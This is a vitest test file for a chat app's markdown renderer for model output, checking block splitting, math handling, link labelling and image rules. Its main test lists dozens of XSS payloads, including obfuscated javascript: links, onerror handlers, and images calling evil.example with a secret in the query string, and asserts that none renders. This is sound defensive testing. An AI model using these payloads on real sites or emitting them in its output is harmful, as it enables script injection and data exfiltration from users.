import { render } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { TooltipRoot } from "@/ui";
import { blocks } from "./blocks";
import { hostOf, isOwnImage } from "./links";
import { normalizeMath } from "./math";
import Render from "./render";

function html(text: string, live = false): HTMLElement {
  return render(<TooltipRoot><Render text={text} live={live} /></TooltipRoot>).container;
}

// One payload a line: none may make an element that runs or loads something.
const payloads = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><circle/></svg>",
  "<iframe src=https://evil.example></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>*{background:url(https://evil.example)}</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<base href=https://evil.example>",
  "<form action=https://evil.example><input name=password></form>",
  "<details open ontoggle=alert(1)>",
  "<video src=https://evil.example autoplay>",
  "<object data=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "![x](https://evil.example/pixel.png?secret=1)",
  "![x](//evil.example/pixel.png)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x](/console/api/backups)",
  "![x][1]\n\n[1]: https://evil.example/p.png",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "```html\n<script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
  "# <script>alert(1)</script>",
  "- <svg/onload=alert(1)>",
  "text <!-- <script>alert(1)</script> --> text",
  "<![CDATA[<script>alert(1)</script>]]>",
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\includegraphics{https://evil.example/x.png}$",
];

describe("markdown of a model", () => {
  it.each(payloads)("is harmless: %s", (text) => {
    for (const live of [true, false]) {
      const box = html(text, live);
      expect(box.querySelector("script, iframe, object, embed, form, link, style, base, meta, video, audio, details, img, [srcdoc]")).toBeNull();
      for (const el of box.querySelectorAll("*")) for (const a of el.attributes) expect(a.name.startsWith("on")).toBe(false);
      for (const a of box.querySelectorAll("a")) expect(a.protocol).toMatch(/^(https?|mailto):$/);
    }
  });

  it("shows HTML as it was written", () => {
    expect(html("a <b>bold</b> word").textContent).toContain("<b>bold</b>");
  });

  it("says where a link leads, opens it apart, and gives no referrer", () => {
    const a = html("[the law](https://law.example/585)").querySelector("a");
    expect(a?.textContent).toBe("the law (law.example)");
    expect(a?.target).toBe("_blank");
    expect(a?.rel).toContain("noreferrer");
    expect(html("https://law.example/585").querySelector("a")?.textContent).toBe("https://law.example/585");
  });

  it("turns a foreign image into a link and shows our own", () => {
    const foreign = html("![chart](https://x.example/a.png)");
    expect(foreign.querySelector("img")).toBeNull();
    expect(foreign.querySelector("a")?.textContent).toBe("chart (x.example)");
    expect(html("![ok](/api/sites/demo/files/0190)").querySelector("img")?.getAttribute("src")).toBe("/api/sites/demo/files/0190");
  });

  it("renders tables, task lists and code with its language", () => {
    const box = html("| a | b |\n| --- | --- |\n| 1 | 2 |\n\n- [x] done\n\n```go\nfunc main() {}\n```");
    expect(box.querySelectorAll("td").length).toBe(2);
    expect(box.querySelector("input[type=checkbox]")).not.toBeNull();
    expect(box.querySelector("pre")?.textContent).toBe("func main() {}");
    expect(box.textContent).toContain("go");
  });
});

describe("blocks", () => {
  it.each([
    ["a\n\nb", 2],
    ["```\na\n\nb\n```\n\nc", 2],
    ["````\n```\n\n````\n\nc", 2],
    ["- a\n\n- b\n\n- c", 1],
    ["1. a\n\n   more\n\n2. b\n\nend", 2],
    ["$$\na\n\nb\n$$\n\nc", 2],
    ["a [x][1]\n\n[1]: http://x", 1],
    ["\n\n\n", 0],
    ["```js\nopen", 1],
  ])("cuts %j into %i", (text, want) => {
    expect(blocks(text).length).toBe(want);
  });

  it("never changes an earlier block while text is added", () => {
    const text = "# 标题\n\n第一段\n\n- a\n- b\n\n```js\nlet x\n\nlet y\n```\n\n| a |\n| - |\n| 1 |\n\n结尾";
    let before: string[] = [];
    for (let i = 1; i <= text.length; i++) {
      const now = blocks(text.slice(0, i));
      const settled = before.slice(0, -2);
      expect(now.slice(0, settled.length)).toEqual(settled);
      before = now;
    }
    expect(blocks(text).join("\n").replace(/\n+/g, "\n")).toBe(text.replace(/\n+/g, "\n"));
  });
});

describe("math", () => {
  it.each([
    ["\\(a+b\\)", "$a+b$"],
    ["\\[a+b\\]", "$$\na+b\n$$"],
    ["costs $5 and $10", "costs \\$5 and \\$10"],
    ["$x^2$ is $5", "$x^2$ is \\$5"],
    ["`$a$` and $b$", "`$a$` and $b$"],
    ["```\n$5 \\(x\\)\n```", "```\n$5 \\(x\\)\n```"],
    ["$$\nx\n$$", "$$\nx\n$$"],
  ])("%j becomes %j", (text, want) => {
    expect(normalizeMath(text)).toBe(want);
  });
});

describe("links", () => {
  const base = "http://islet.local/chat/x";
  it("names the host", () => {
    expect([hostOf("https://a.b/c", base), hostOf("mailto:a@b", base), hostOf("javascript:1", base), hostOf("", base), hostOf("http://[", base)]).toEqual(["a.b", "a@b", null, null, null]);
  });
  it("knows our files", () => {
    expect([isOwnImage("/api/sites/a/files/b", base), isOwnImage("/console/api/files/b", base), isOwnImage("/console/api/me", base), isOwnImage("http://other/api/sites/a/files/b", base)]).toEqual([true, true, false, false]);
  });
});
